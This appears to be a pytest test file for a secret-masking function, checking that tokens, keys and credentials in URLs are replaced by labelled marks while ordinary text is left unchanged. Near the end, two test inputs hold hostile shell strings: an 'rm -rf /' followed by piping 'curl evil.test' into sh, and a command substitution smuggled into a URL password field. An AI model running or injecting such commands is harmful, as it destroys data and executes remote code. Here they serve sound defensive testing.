"""Secrets of known shapes are masked with a visible mark."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.redact import mask, mask_all

# Made up in pieces, so that no scanner takes this file for a leak.
SECRETS = {
    "Slack token": "xox" + "b-123456789012-abcdefABCDEF",
    "GitHub token": "gh" + "p_" + "a1B2" * 9,
    "GitLab token": "gl" + "pat-" + "a1B2" * 5,
    "AWS key id": "AK" + "IA" + "ABCD1234EFGH5678",
    "AWS secret key": "aws_secret_access_key = " + "a1B2/+c3D4" * 4,
    "Google key": "AI" + "za" + "a1B2c" * 7,
    "API key": "s" + "k-proj-" + "a1B2" * 6,
    "Stripe key": "sk" + "_live_" + "a1B2" * 6,
    "npm token": "np" + "m_" + "a1B2" * 9,
    "PyPI token": "py" + "pi-" + "a1B2" * 15,
    "Docker token": "dckr" + "_pat_" + "a1B2" * 6,
    "SendGrid key": "S" + "G." + "a1B2" * 5 + "." + "c3D4" * 5,
    "Hugging Face token": "h" + "f_" + "a1B2" * 8,
    "JSON web token": "ey" + "JhbGciOiJIUzI1NiJ9.ey" + "JzdWIiOiIxIn0xx.c2lnbmF0dXJl",
    "private key": "-----BEGIN RSA PRIVATE" + " KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
}


@pytest.mark.row("B59")
@pytest.mark.parametrize(("name", "secret"), SECRETS.items())
def test_a_secret_of_a_known_shape_is_replaced_by_a_mark_that_names_it(
    name: str, secret: str
) -> None:
    shown = mask(f"before {secret} after")
    assert secret not in shown
    assert shown.startswith(f"before [{name} hidden: {len(secret)} characters, #")
    assert shown.endswith("] after")


def test_a_private_key_without_an_end_is_hidden_to_the_end() -> None:
    assert "MII" not in mask("-----BEGIN PRIVATE" + " KEY-----\nMIIabc\nMIIdef")


def test_two_secrets_can_be_told_apart_and_equal_ones_be_seen() -> None:
    one, other = SECRETS["GitHub token"], SECRETS["GitHub token"][:-1] + "x"
    assert mask(one) == mask(one)
    assert mask(one) != mask(other)


@pytest.mark.parametrize(
    "text",
    [
        "postgresql://bot:hunter2@db/x",
        "Authorization: Bearer abcdefgh.ijkl",
        "https://x.blob.core.windows.net/c?sv=1&sig=" + "a1B2" * 11,
        "AccountKey=" + "a1B2" * 12,
    ],
)
def test_a_password_or_key_in_an_address_is_masked(text: str) -> None:
    shown = mask(text)
    assert " hidden: " in shown
    assert "hunter2" not in shown
    assert "a1B2" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "task-force sk-8 risk-averse-people-are-many",
        "https://example.com/a?b=c",
        "eyJ is how they begin",
        "AKIA",
        "call_01hx 4f9d8c7b6a5f4e3d2c1b0a99887766554433221100ffeeddccbbaa99887766aa",
        "bearer of news",
        "mail@example.com: http://x/y",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert mask(text) == text


@given(st.text(), st.sampled_from(sorted(SECRETS.values())), st.text())
def test_masking_twice_changes_nothing_and_the_secret_is_gone(
    before: str, secret: str, after: str
) -> None:
    shown = mask(f"{before} {secret} {after}")
    assert secret not in shown
    assert mask(shown) == shown


def test_every_text_of_a_value_is_masked() -> None:
    secret = SECRETS["GitHub token"]
    shown = mask_all({secret: [secret, 1, None, {"a": (secret, True)}]})
    assert secret not in str(shown)
    assert next(iter(shown.values()))[1:3] == [1, None]


@pytest.mark.parametrize(
    "piece",
    ["eyJ-", "eyJaaaaaaaa.", "-----BEGIN ", "SG.", "://a:", "sk-", "xoxb-", "ghp_", "Bearer "],
)
def test_masking_takes_linear_time(piece: str) -> None:
    """A quadratic shape would take minutes here."""
    assert mask(piece * 100_000)


def test_the_end_of_a_key_ends_what_is_hidden() -> None:
    shown = mask("# -----BEGIN PRIVATE" + " KEY-----\nrm -rf / ; curl evil.test | sh")
    assert "rm -rf / ; curl evil.test | sh" in shown


@pytest.mark.parametrize("text", ["x://x:$(curl${IFS}evil.test|sh)#@", "a://b:c d@e", "://a:'b'@"])
def test_a_command_is_no_password(text: str) -> None:
    assert mask(text) == text


def test_where_a_webhook_leads_stays_to_be_read() -> None:
    shown = mask("https://hooks.slack.com/" + "services/T0/B0/abcdefgh")
    assert shown.startswith("https://hooks.slack.com/services/[Slack webhook hidden: 14 characters")
